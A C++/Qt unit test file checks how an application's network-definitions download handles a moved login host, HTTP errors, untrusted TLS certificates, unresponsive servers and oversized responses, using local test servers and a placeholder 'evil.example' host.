    // The definitions download: merged with its message, an error status, a
    // server that does not answer, and no request at all without a service address.
    // An update that moves the login of a network with stored passwords to
    // another host asks first: No keeps the old address, Yes takes the new one.
    void movedLoginHostIsAskedFor()
    {
        QTemporaryDir served;
        auto publish = [&](const char* version, const QString& login) {
            NetworkList published;
            published.push_back(MakeNetwork(QStringLiteral("公開ネット"), login));
            published.back()->System = "P1";
            TIniList scratch;
            return ExportNetworks(scratch, published, version, served.path().toStdString()).ok;
        };
        QVERIFY(publish("4", QStringLiteral("https://p.example/login")));
        test::FormServer service;
        QVERIFY(service.start(served.path()));
        QTemporaryDir settings;
        SaveNetworksFile(settings.path(), NetworkList());
        auto form = StartForm(settings.path(), settings.path());
        form->workspace().IniListSetup.WriteString("Setups", "ServiceURL", ToData(service.url(QString())));
        QAction* update = form->findChild<QAction*>(QStringLiteral("MIUpdateNetwork"));
        update->trigger();
        QCOMPARE(form->workspace().Networks.size(), size_t(1));
        form->workspace().Networks[0]->SetLogin(ToData(QStringLiteral("基本設定")), "me", "secret");

        for (const bool accept : { false, true }) {
            QVERIFY(publish(accept ? "6" : "5", QStringLiteral("https://evil.example/login")));
            QStringList asked;
            SetMessageHandler([&](MessageType type, const QString& text) {
                if (type == MessageType::Warning && text.contains(QStringLiteral("evil.example"))) {
                    asked << text;
                    return accept ? QMessageBox::Yes : QMessageBox::No;
                }
                return QMessageBox::Ok;
            });
            update->trigger();
            QCOMPARE(asked.size(), 1);
            QVERIFY(asked[0].contains(QStringLiteral("https://p.example/login")));
            QCOMPARE(form->workspace().Networks[0]->LoginURL,
                std::string(accept ? "https://evil.example/login" : "https://p.example/login"));
        }
    }

    void definitionsUpdate()
    {
        QTemporaryDir served;
        {
            NetworkList published;
            published.push_back(
                MakeNetwork(QStringLiteral("公開ネット"), QStringLiteral("https://p.example/login")));
            published.back()->System = "P1";
            TIniList scratch;
            QVERIFY(ExportNetworks(scratch, published, "4", served.path().toStdString()).ok);
        }
        test::FormServer service;
        QVERIFY(service.start(served.path()));
        auto requests = [&] {
            QNetworkAccessManager direct;
            direct.setProxy(QNetworkProxy::NoProxy);
            QNetworkReply* reply = direct.get(QNetworkRequest(QUrl(service.url(QStringLiteral("__count")))));
            QSignalSpy done(reply, &QNetworkReply::finished);
            done.wait(10000);
            reply->deleteLater();
            return reply->readAll().toInt();
        };

        QTemporaryDir settings;
        NetworkList networks;
        networks.push_back(MakeNetwork(QStringLiteral("自分の"), QString()));
        networks.back()->SetLogin(ToData(QStringLiteral("基本設定")), "me", "pw");
        SaveNetworksFile(settings.path(), networks);
        auto form = StartForm(settings.path(), settings.path());
        QAction* update = form->findChild<QAction*>(QStringLiteral("MIUpdateNetwork"));

        // No service address: no request of any kind.
        const int before = requests();
        update->trigger();
        QCOMPARE(requests(), before);
        QCOMPARE(m_messages.size(), 1);

        form->workspace().IniListSetup.WriteString("Setups", "ServiceURL", ToData(service.url(QString())));
        m_messages.clear();
        update->trigger();
        QCOMPARE(requests(), before + 1);
        QCOMPARE(m_messages, QStringList({ QStringLiteral("広告代理店情報が更新されました。") }));
        QCOMPARE(form->workspace().NetworkVersion, 4);
        QCOMPARE(form->workspace().Networks.size(), size_t(2));
        QCOMPARE(FromData(form->workspace().Networks[1]->Name), QStringLiteral("公開ネット"));
        TIniList stored;
        QVERIFY(LoadSettingsFile(stored, settings.path().toStdString(), kMainSettingsFile).ok);
        QCOMPARE(stored.ReadInteger("Setups", "v2", 0), 4);
        QCOMPARE(stored.ReadInteger("Networks", "Count", 0), 2);
        QCOMPARE(form->findChild<QMenu*>(QStringLiteral("PMLogin"))->actions().size(), 1);

        // An error status and a server that does not answer change nothing.
        QVERIFY(QFile::remove(served.filePath(QStringLiteral("nwks.txt"))));
        m_messages.clear();
        update->trigger();
        QCOMPARE(m_messages.size(), 1);
        QVERIFY2(
            m_messages[0].startsWith(QStringLiteral("127.0.0.1サーバーに接続エラー")), qPrintable(m_messages[0]));
        QCOMPARE(form->workspace().NetworkVersion, 4);

        // HTTPS with a certificate nobody vouches for: refused, nothing merged.
        QProcess makeCert;
        const QString pem = served.filePath(QStringLiteral("service.pem"));
        makeCert.start(QStringLiteral("openssl"),
            { QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"),
                QStringLiteral("rsa:2048"), QStringLiteral("-nodes"), QStringLiteral("-days"), QStringLiteral("2"),
                QStringLiteral("-subj"), QStringLiteral("/CN=127.0.0.1"), QStringLiteral("-addext"),
                QStringLiteral("subjectAltName=IP:127.0.0.1"), QStringLiteral("-keyout"), pem,
                QStringLiteral("-out"), pem + QStringLiteral(".crt") });
        QVERIFY(makeCert.waitForFinished(30000) && makeCert.exitCode() == 0);
        {
            QFile certificate(pem + QStringLiteral(".crt")), both(pem);
            QVERIFY(certificate.open(QIODevice::ReadOnly) && both.open(QIODevice::Append));
            both.write(certificate.readAll());
        }
        {
            TIniList scratch;
            NetworkList other;
            other.push_back(MakeNetwork(QStringLiteral("偽ネット"), QStringLiteral("https://evil.example/")));
            other.back()->System = "P9";
            QVERIFY(ExportNetworks(scratch, other, "9", served.path().toStdString()).ok);
        }
        test::FormServer tls;
        QVERIFY(tls.startTls(served.path(), pem));
        form->workspace().IniListSetup.WriteString("Setups", "ServiceURL", ToData(tls.url(QString())));
        m_messages.clear();
        update->trigger();
        QCOMPARE(m_messages.size(), 1);
        QVERIFY2(m_messages[0].startsWith(QStringLiteral("127.0.0.1サーバーに接続エラー"))
                && m_messages[0].contains(QLatin1String("SSL")),
            qPrintable(m_messages[0]));
        QCOMPARE(form->workspace().NetworkVersion, 4);
        QCOMPARE(form->workspace().Networks.size(), size_t(2));

        QTcpServer silent; // accepts connections and never answers
        QVERIFY(silent.listen(QHostAddress::LocalHost, 0));
        form->workspace().IniListSetup.WriteString(
            "Setups", "ServiceURL", ToData(QStringLiteral("http://127.0.0.1:%1/pw/").arg(silent.serverPort())));
        m_messages.clear();
        QElapsedTimer clock;
        clock.start();
        update->trigger();
        QCOMPARE(m_messages.size(), 1);
        QVERIFY(m_messages[0].startsWith(QStringLiteral("127.0.0.1サーバーに接続エラー")));
        QVERIFY(clock.elapsed() < 20000);
        QCOMPARE(form->workspace().Networks.size(), size_t(2));
    }

    // The definitions download reads at most its cap: a file of exactly the
    // cap is merged; one byte more, or an answer that does not end, is cut
    // off with a message, memory stays put and nothing is merged.
    void definitionsSizeCap()
    {
        QTemporaryDir served;
        const qsizetype cap = qsizetype(kDefinitionsFileLimit);
        // One published network whose marker text pads nwks.txt to `size` bytes.
        auto publish = [&](qsizetype size) {
            NetworkList published;
            published.push_back(
                MakeNetwork(QStringLiteral("大きいネット"), QStringLiteral("https://p.example/login")));
            published.back()->System = "P1";
            TIniList scratch;
            QVERIFY(ExportNetworks(scratch, published, "4", served.path().toStdString()).ok);
            const qint64 bare = QFileInfo(served.filePath(QStringLiteral("nwks.txt"))).size();
            published.back()->Character = std::string(size_t(size - bare), 'x');
            QVERIFY(ExportNetworks(scratch, published, "4", served.path().toStdString()).ok);
            QCOMPARE(QFileInfo(served.filePath(QStringLiteral("nwks.txt"))).size(), size);
        };
        test::FormServer service;
        QVERIFY(service.start(served.path()));
        const QString tooLarge = QStringLiteral("127.0.0.1サーバーから受け取った広告代理店情報が大きすぎます");

        const struct Case {
            const char* name;
            qsizetype size; // 0: the endless answer
            bool merged;
        } cases[] = {
            { "OneOverTheCap", cap + 1, false },
            { "Endless", 0, false },
            { "AtTheCap", cap, true },
        };
        for (const Case& c : cases) {
            QTemporaryDir settings;
            SaveNetworksFile(settings.path(), NetworkList());
            auto form = StartForm(settings.path(), settings.path());
            QString base = service.url(QString());
            if (c.size)
                publish(c.size);
            else
                base = service.url(QStringLiteral("__endless/"));
            form->workspace().IniListSetup.WriteString("Setups", "ServiceURL", ToData(base));
            m_messages.clear();
            const size_t networksBefore = form->workspace().Networks.size();
            test::ResetPeakResident();
            const std::int64_t memoryBefore = test::PeakResidentBytes();
            QElapsedTimer clock;
            clock.start();
            form->findChild<QAction*>(QStringLiteral("MIUpdateNetwork"))->trigger();
            QVERIFY2(clock.elapsed() < 15000, c.name);
            // The merged case holds the file itself and its parsed copies.
            QVERIFY2(test::PeakResidentBytes() - memoryBefore < 64 * 1024 * 1024, c.name);
            QCOMPARE(m_messages.size(), 1);
            for (QString& m : m_messages)
                m.truncate(200);
            if (c.merged) {
                QCOMPARE(m_messages[0], QStringLiteral("広告代理店情報が更新されました。"));
                QCOMPARE(form->workspace().Networks.size(), networksBefore + 1);
                QVERIFY(form->workspace().Networks.back()->Character.size() > size_t(cap) - 4096);
            } else {
                QVERIFY2(m_messages[0].startsWith(tooLarge), qPrintable(m_messages[0]));
                QCOMPARE(form->workspace().Networks.size(), networksBefore);
                QCOMPARE(form->workspace().IniListSetup.ReadInteger("Setups", "v2", 1), 1);
            }
            if (!c.size) {
                const qint64 sent = service.endlessSent();
                QVERIFY2(sent >= 0 && sent < 32 * 1024 * 1024, qPrintable(QString::number(sent)));
            }
        }
    }

private:
    test::FormServer m_server;
    QStringList m_messages;
};

QTEST_MAIN(NetworksTest)
#include "networks_test.moc"
